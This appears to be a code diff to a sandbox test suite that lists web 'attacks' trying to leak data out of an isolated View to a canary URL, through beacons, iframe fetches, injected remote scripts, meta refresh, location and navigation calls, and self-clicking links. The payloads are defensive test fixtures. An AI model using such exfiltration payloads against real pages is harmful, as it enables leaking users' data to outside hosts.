@@ -153,17 +153,20 @@ fetch('${canary}/x'); oninstall = (event) => event.waitUntil(fetch('${canary}/y'
   network('document-write', 'document.write of a script', ({ canary }) =>
     script(`document.write('<script src="${canary}/x.js"><\\/script>'); tried()`),
   ),
-  network('view-transition-name', 'a frame without an address that fetches', ({ canary }) =>
+  network('blank-frame', 'a frame without an address that fetches', ({ canary }) =>
     script(
       `const f = document.createElement('iframe'); document.body.append(f); await later(f.contentWindow.fetch('${canary}/x'))`,
     ),
   ),
-  network('pagehide', 'a beacon when the View is removed', ({ canary }) =>
-    script(
-      `addEventListener('pagehide', () => navigator.sendBeacon('${canary}/bye', 'secret')); addEventListener('visibilitychange', () => navigator.sendBeacon('${canary}/hide'))`,
+  {
+    ...network('pagehide', 'a beacon when the View is removed', ({ canary }) =>
+      script(
+        `addEventListener('pagehide', () => navigator.sendBeacon('${canary}/bye', 'secret')); addEventListener('visibilitychange', () => navigator.sendBeacon('${canary}/hide'))`,
+      ),
     ),
-  ),
-].map((attack) => (attack.id === 'net-pagehide' ? { ...attack, atTheEnd: true } : attack))
+    atTheEnd: true,
+  },
+]
 
 /** Ways out that take the View, the proxy or the host along. */
 export const navigationAttacks: readonly Attack[] = [
@@ -171,7 +174,7 @@ export const navigationAttacks: readonly Attack[] = [
   network('location-replace', 'location.replace', ({ canary }) => leaving(`location.replace('${canary}/x?secret')`)),
   network('navigation-api', 'navigation.navigate', ({ canary }) => leaving(`navigation.navigate('${canary}/x?secret')`)),
   network('meta-refresh', 'meta refresh', ({ canary }) =>
-    markup(`<meta http-equiv="refresh" content="0;url=${canary}/x?secret">`),
+    markup(`<script>tried()</script><meta http-equiv="refresh" content="0;url=${canary}/x?secret">`),
   ),
   network('anchor', 'a link that clicks itself', ({ canary }) =>
     leaving(`document.links[0].click()`, `<a href="${canary}/x?secret">x</a>`),
@@ -186,12 +189,6 @@ export const navigationAttacks: readonly Attack[] = [
     leaving(
       `document.querySelector('a').dispatchEvent(new MouseEvent('click'))`,
       `<svg><a href="${canary}/x"><text>x</text></a></svg>`,
-    ),
-  ),
-  network('mathml-anchor', 'a link in MathML', ({ canary }) =>
-    leaving(
-      `document.querySelector('mrow').dispatchEvent(new MouseEvent('click', { bubbles: true }))`,
-      `<math><mrow href="${canary}/x"><mi>x</mi></mrow></math>`,
     ),
   ),
   network('form-get', 'a form that submits itself', ({ canary }) =>
